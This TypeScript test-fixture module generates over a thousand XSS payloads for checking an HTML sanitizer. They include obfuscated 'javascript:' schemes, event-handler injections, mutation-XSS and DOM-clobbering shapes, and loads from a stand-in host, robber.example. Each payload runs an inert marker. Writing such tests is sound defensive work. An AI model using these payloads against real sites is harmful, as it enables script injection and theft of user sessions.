/** Code in every payload; tests look for its effect. */
const ACT = 'window.robbed=1'

const TAGS = `
  a abbr article audio b base body button canvas details div embed fieldset font form
  frameset iframe img image input isindex keygen label link marquee math meter object
  optgroup option p select style svg table td textarea video xss x-card
`
  .trim()
  .split(/\s+/)

const HANDLERS = `
  onanimationstart onauxclick onbeforetoggle onblur oncanplay onclick onerror onfocus
  onfocusin onload onloadstart onmouseover onpageshow onpointerenter onpointerrawupdate
  onscroll onstart ontoggle ontransitionend onwheel ONERROR onfinish onhashchange onbegin
`
  .trim()
  .split(/\s+/)

/** Spellings of the scheme `javascript:` that browsers may still accept. */
const SCHEMES = [
  `javascript:${ACT}`,
  `JaVaScRiPt:${ACT}`,
  ` \u0001javascript:${ACT}`,
  `java&#9;script:${ACT}`,
  `java&#10;script:${ACT}`,
  `java&NewLine;script:${ACT}`,
  `&#106;&#97;&#118;&#97;script&colon;${ACT}`,
  `&#x6A;avascript:${ACT}`,
  `javascript&#58;${ACT}`,
  `javascript://%0a${ACT}`,
  `vbscript:${ACT}`,
  `data:text/html,<script>${ACT}</script>`,
  'data:text/html;base64,PHNjcmlwdD53aW5kb3cucm9iYmVkPTE8L3NjcmlwdD4=',
  `feed:javascript:${ACT}`,
  `livescript:${ACT}`,
  `view-source:javascript:${ACT}`,
  '//robber.example/',
  '/\\robber.example/',
  'https://robber.example/',
]

const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">go</a>`,
  (address) => `<a href='${address}' target=_self>go</a>`,
  (address) => `<a xlink:href="${address}">go</a>`,
  (address) => `<svg><a xlink:href="${address}"><text y=20>go</text></a></svg>`,
  (address) => `<svg><a href="${address}"><rect width=9 height=9 /></a></svg>`,
  (address) => `<math href="${address}">go</math>`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<form><button formaction="${address}">go</button></form>`,
  (address) => `<form id=f></form><input form=f type=submit formaction="${address}">`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<embed src="${address}">`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<img src="${address}">`,
  (address) => `<img srcset="${address} 1x">`,
  (address) => `<input type=image src="${address}">`,
  (address) => `<video poster="${address}"><source src="${address}"></video>`,
  (address) => `<link rel=stylesheet href="${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<body background="${address}">`,
  (address) => `<table background="${address}"><td background="${address}">x</table>`,
  (address) => `<p style="background:url('${address}')">x</p>`,
  (address) => `<script src="${address}"></script>`,
  (address) => `<svg><use href="${address}#x" /></svg>`,
  (address) => `<svg><image href="${address}" /></svg>`,
  (address) => `<svg><animate attributeName=href values="${address}" /><a id=x>go</a></svg>`,
]

/** HTML that confuses parsers or purifiers: other namespaces, raw text, markup within markup. */
const SHAPES = [
  `<script>${ACT}</script>`,
  `<scr<script>ipt>${ACT}</scr</script>ipt>`,
  `<script/src=data:,${ACT}></script>`,
  `<svg><script>${ACT}</script></svg>`,
  `<svg><script href="data:,${ACT}" /></svg>`,
  `<svg><style><img src=x onerror="${ACT}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${ACT}>">`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.robbed=1</script>"></iframe></foreignObject></svg>`,
  `<svg><desc><img src=x onerror="${ACT}"></desc></svg>`,
  `<svg><title><img src=x onerror="${ACT}"></title></svg>`,
  `<svg><animate onbegin="${ACT}" attributeName=x dur=1s /></svg>`,
  `<svg><set onbegin="${ACT}" attributeName=x to=1 /></svg>`,
  `<svg onload=${ACT}>`,
  `<svg/onload=${ACT}//`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ACT}&gt;">`,
  `<math><mi><table><mglyph><style><math><img src onerror="${ACT}"></style></mglyph></table></mi></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${ACT}">`,
  `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${ACT}"></style></annotation-xml></math>`,
  `<math><maction actiontype="statusline#http://x" xlink:href="javascript:${ACT}">go</maction></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<noembed><img title="</noembed><img src=x onerror=${ACT}>"></noembed>`,
  `<noframes><img title="</noframes><img src=x onerror=${ACT}>"></noframes>`,
  `<xmp><img title="</xmp><img src=x onerror=${ACT}>"></xmp>`,
  `<textarea><img title="</textarea><img src=x onerror=${ACT}>"></textarea>`,
  `<title><img title="</title><img src=x onerror=${ACT}>"></title>`,
  `<style><img title="</style><img src=x onerror=${ACT}>"></style>`,
  `<style>@import'https://robber.example/x.css';*{background:url(https://robber.example/y)}</style>`,
  `<iframe srcdoc="&lt;script&gt;parent.robbed=1&lt;/script&gt;"></iframe>`,
  `<iframe src=x onload=${ACT}></iframe>`,
  `<template><img src=x onerror=${ACT}></template>`,
  `<div><template shadowrootmode=open><img src=x onerror=${ACT}></template></div>`,
  `<select><template><img src=x onerror=${ACT}></template></select>`,
  `<select><iframe srcdoc="<script>parent.robbed=1</script>"></select>`,
  `<img src=x onerror=${ACT}>`,
  `<img src=x onerror=${ACT}//`,
  `<img src=x\u000conerror=${ACT}>`,
  `<img/src=x/onerror=${ACT}>`,
  `<img src="x" on\u0000error="${ACT}">`,
  `<img """><img src=x onerror="${ACT}">`,
  `<img src=x alt="\`" onerror=\`${ACT}\`>`,
  `<a href="x" title='"><img src=x onerror=${ACT}>'>go</a>`,
  `<!--><img src=x onerror=${ACT}>-->`,
  `<!--!><img src=x onerror=${ACT}>--!>`,
  `<![CDATA[><img src=x onerror=${ACT}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${ACT}>`,
  `<?php echo "x" ?><img src=x onerror=${ACT}>`,
  `</p><img src=x onerror=${ACT}>`,
  `<p/onclick=${ACT}>x</p>`,
  `<table><td><svg><desc><table><img src=x onerror=${ACT}></table></desc></svg></td></table>`,
  `<a><table><a><img src=x onerror=${ACT}></a></table></a>`,
  `<form><input name=attributes><img src=x onerror=${ACT}></form>`,
  `<form id=x><input name=nodeName><input name=parentNode></form><img src=x onerror=${ACT}>`,
  `<img name=body><img name=createElement><img name=robbed src=x>`,
  `<a id=robbed></a><a id=robbed name=x href=1>x</a>`,
  `<details open ontoggle=${ACT}><summary>x</summary></details>`,
  `<video><source onerror=${ACT}></video>`,
  `<audio src=x onerror=${ACT}></audio>`,
  `<input autofocus onfocus=${ACT}>`,
  `<marquee onstart=${ACT}>x</marquee>`,
  `<isindex type=image src=1 onerror=${ACT}>`,
  `<object data="data:text/html,<script>parent.robbed=1</script>"></object>`,
  `<p is="x-card" onclick=${ACT}>x</p>`,
  `<p contenteditable onfocus=${ACT} tabindex=0 autofocus>x</p>`,
  `<p style="position:fixed;inset:0;z-index:999" class="fixed inset-0">x</p>`,
  `<p style="animation:spin 1s" onanimationstart=${ACT}>x</p>`,
  `<dialog open onclose=${ACT}><form method=dialog><button>x</button></form></dialog>`,
  `<button popovertarget=p>x</button><p popover id=p onbeforetoggle=${ACT}>x</p>`,
  `<link rel=prerender href=https://robber.example/><link rel=dns-prefetch href=//robber.example>`,
  `<meta http-equiv="Content-Security-Policy" content="script-src *">`,
  `<portal src=https://robber.example/></portal><fencedframe></fencedframe>`,
]

/** More than a thousand pieces of hostile HTML, modelled on public lists of XSS payloads. */
export const HOSTILE_HTML: readonly string[] = [
  ...TAGS.flatMap((tag) =>
    HANDLERS.map((name) => `<${tag} src=x tabindex=0 ${name}="${ACT}">x</${tag}>`),
  ),
  ...CARRIERS.flatMap((carry) => SCHEMES.map(carry)),
  ...SHAPES,
  ...SHAPES.map((shape) => `<p>Fine words ${'<div>'.repeat(300)}${shape}`),
]
